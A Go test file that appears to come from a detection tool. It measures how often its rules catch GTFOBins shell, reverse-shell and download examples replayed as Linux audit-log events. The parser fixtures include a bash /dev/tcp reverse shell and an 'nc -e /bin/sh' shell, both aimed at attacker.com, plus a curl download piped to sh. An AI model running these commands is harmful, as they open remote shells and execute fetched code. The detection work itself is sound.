package catalogeval

import (
	"context"
	"path/filepath"
	"slices"
	"testing"

	"github.com/exechunt/exechunt/internal/corpus"
	"github.com/exechunt/exechunt/packs"
)

// GTFOBins floors: what the tags, scores and packs reach on the catalog's shell,
// command, reverse-shell and download examples, rounded down, so that a regression
// fails: 11 of 363 examples scored (0.030), 21 found by a pack (0.058). Low: the
// analysis has no GTFOBins rules yet (a program given a shell to run through its own
// options), the feedback this evaluation is for.
const (
	minGTFOScored = 0.02
	minGTFOFound  = 0.05
)

// TestEvaluateCatalogGTFOBins turns the GTFOBins examples (shell, command, reverse
// shell, download) and lines of ordinary Linux administration into process creations
// of a Linux audit log, scores them and runs every pack over them (make
// eval-catalog), prints the table and, with -v, every miss; it fails below the
// floors or when a benign line scores 50 or more.
func TestEvaluateCatalogGTFOBins(t *testing.T) {
	ref, ok := corpus.ReferenceDir()
	dir := filepath.Join(ref, "gtfobins")
	if !ok {
		t.Skip("reference folder not found: put it at ../shared/reference or set " + corpus.ReferenceEnv + " (CI always has it)")
	}
	ps, err := packs.Load(packs.FS)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := EvaluateGTFOBins(context.Background(), dir, t.TempDir(), ps)
	if err != nil {
		t.Fatal(err)
	}
	n, scored, found := rep.Share("")
	if n < 250 {
		t.Fatalf("only %d examples: catalog not read", n)
	}
	t.Log("\n" + rep.Table())
	if testing.Verbose() {
		t.Log("\n" + rep.Misses())
	}
	for _, c := range append(append([]*GTFOCase(nil), rep.Cases...), rep.Benign...) {
		for _, e := range c.Events {
			if !e.Shown {
				t.Errorf("%s/%s: %s not in the tables", c.Binary, c.Function, e.CommandLine)
			}
		}
	}
	for _, c := range rep.BenignAtOrAbove() {
		t.Errorf("benign administration scores %d: %s", c.Score(), c.Code)
	}
	if scored < minGTFOScored || found < minGTFOFound {
		t.Errorf("scored %.3f (floor %.2f), found %.3f (floor %.2f)", scored, minGTFOScored, found, minGTFOFound)
	}
}

func TestGTFOProcs(t *testing.T) {
	for code, want := range map[string][][]string{
		"bash -c 'exec bash -i &>/dev/tcp/attacker.com/12345 <&1'":     {{"bash", "-c", "exec bash -i &>/dev/tcp/attacker.com/12345 <&1"}},
		"TF=$(mktemp)\necho 'x' >$TF\nchmod +x $TF\nsh $TF":            {{"chmod", "+x", "$TF"}, {"sh", "$TF"}},
		"RHOST=attacker.com\nRPORT=12345\nnc -e /bin/sh $RHOST $RPORT": {{"nc", "-e", "/bin/sh", "$RHOST", "$RPORT"}},
		"curl http://a/x -o /tmp/y | sh 2>/dev/null":                   {{"curl", "http://a/x", "-o", "/tmp/y"}, {"sh"}},
		"cat <<EOF >x\nnot a command\nEOF\nexec python3 x":             {{"cat"}, {"python3", "x"}},
	} {
		if got := gtfoProcs(code); !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("gtfoProcs(%q) = %q, want %q", code, got, want)
		}
	}
}
